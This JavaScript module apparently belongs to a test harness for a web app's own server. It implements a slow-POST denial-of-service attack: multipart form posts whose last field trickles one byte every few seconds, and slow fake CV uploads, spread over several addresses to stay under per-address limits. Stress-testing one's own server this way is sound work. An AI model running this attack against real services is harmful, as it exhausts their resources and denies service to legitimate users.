// The multipart attack: posts of many large text fields held open on the form routes (the last
// field trickled a byte at a time) and slow CV uploads on /api/application, spread over a few
// addresses so each stays within the per-address budget.
import { attackAddresses, BOUNDARY, CLOSING, connect, hangUp, MB, requestHead, textPart, trickle } from './wire.mjs';

/** Often enough that the server's 30 s idle timeout never closes an open post. */
const TRICKLE_MS = 3_000;
const UPLOAD_CLAIMED_BYTES = 9 * MB;
const UPLOAD_FIRST_BYTES = 64 * 1024;
const UPLOAD_STEP_BYTES = 16 * 1024;
const UPLOAD_STEP_MS = 1_000;
/** The form routes that take multipart text fields (src/server/forms/form-parsers.ts). */
export const FORM_ROUTES = [
  '/api/contact',
  '/api/contact/omr',
  '/api/contact/technology',
  '/api/events',
  '/api/newsletter/subscribe',
];
const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;

/** What a form post sends at once and how many bytes it may still trickle before the claimed length is reached. */
function formPost(port, path, fields, fieldBytes) {
  const header = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="message"\r\n\r\n`;
  const part = Buffer.concat([Buffer.from(header), Buffer.alloc(fieldBytes, 'x'), Buffer.from('\r\n')]);
  const claimed = fields * part.length + CLOSING.length;
  // Every field but the last complete; of the last only its header, its value trickles in a byte at a time.
  const sent = Buffer.concat([
    Buffer.from(requestHead(port, path, MULTIPART, claimed)),
    ...Array.from({ length: fields - 1 }, () => part),
    Buffer.from(header),
  ]);
  return { sent, left: fieldBytes };
}

function slowUpload(port) {
  const start =
    textPart('language', 'en') +
    textPart('name', 'Abe Attacker') +
    textPart('email', 'abe@example.com') +
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="cv"; filename="cv.pdf"\r\nContent-Type: application/pdf\r\n\r\n`;
  const claimed = Buffer.byteLength(start) + UPLOAD_CLAIMED_BYTES + 2 + CLOSING.length;
  const file = Buffer.alloc(UPLOAD_FIRST_BYTES, ' ');
  file.write('%PDF-1.7\n');
  return {
    sent: Buffer.concat([Buffer.from(requestHead(port, '/api/application', MULTIPART, claimed) + start), file]),
    left: UPLOAD_CLAIMED_BYTES - UPLOAD_FIRST_BYTES,
  };
}

export const multipart = {
  name: 'multipart',
  defaults: { posts: 50, uploads: 10, addresses: 3, seconds: 30, fields: 23, fieldKb: 64 },
  summary: ({ posts, uploads, addresses, fields, fieldKb }) => ({
    posts,
    fields,
    fieldKb,
    trickleSeconds: TRICKLE_MS / 1000,
    routes: FORM_ROUTES,
    uploads,
    uploadClaimedMb: UPLOAD_CLAIMED_BYTES / MB,
    uploadKbPerSecond: UPLOAD_STEP_BYTES / 1024 / (UPLOAD_STEP_MS / 1000),
    addresses: attackAddresses(addresses),
  }),
  describe: ({ posts, uploads, fields, fieldKb }) =>
    `${posts} multipart posts (${fields} fields × ${fieldKb} KB, the last left open, a byte every ${TRICKLE_MS / 1000} s) spread over ${FORM_ROUTES.join(', ')}; ` +
    `${uploads} uploads to /api/application (a cv part of a claimed ${UPLOAD_CLAIMED_BYTES / MB} MB at ${UPLOAD_STEP_BYTES / 1024 / (UPLOAD_STEP_MS / 1000)} KB/s)`,
  start({ port, settings }) {
    const addresses = attackAddresses(settings.addresses);
    const bodies = new Map(
      FORM_ROUTES.map((path) => [path, formPost(port, path, settings.fields, settings.fieldKb * 1024)]),
    );
    const upload = slowUpload(port);
    const posts = [];
    const uploads = [];
    let next = 0;
    for (let i = 0; i < settings.posts; i += 1) {
      const route = FORM_ROUTES[i % FORM_ROUTES.length];
      const { sent, left } = bodies.get(route);
      posts.push(
        connect({ port, kind: 'form posts', route, localAddress: addresses[next++ % addresses.length], sent, left }),
      );
    }
    for (let i = 0; i < settings.uploads; i += 1) {
      const localAddress = addresses[next++ % addresses.length];
      uploads.push(connect({ port, kind: 'uploads', route: '/api/application', localAddress, ...upload }));
    }
    const trickleTimer = setInterval(() => trickle(posts, 1, 'x'), TRICKLE_MS);
    const uploadTimer = setInterval(() => trickle(uploads, UPLOAD_STEP_BYTES, ' '), UPLOAD_STEP_MS);
    return {
      async stop() {
        clearInterval(trickleTimer);
        clearInterval(uploadTimer);
        return { outcomes: hangUp([...posts, ...uploads], (attacker) => attacker.kind) };
      },
    };
  },
};
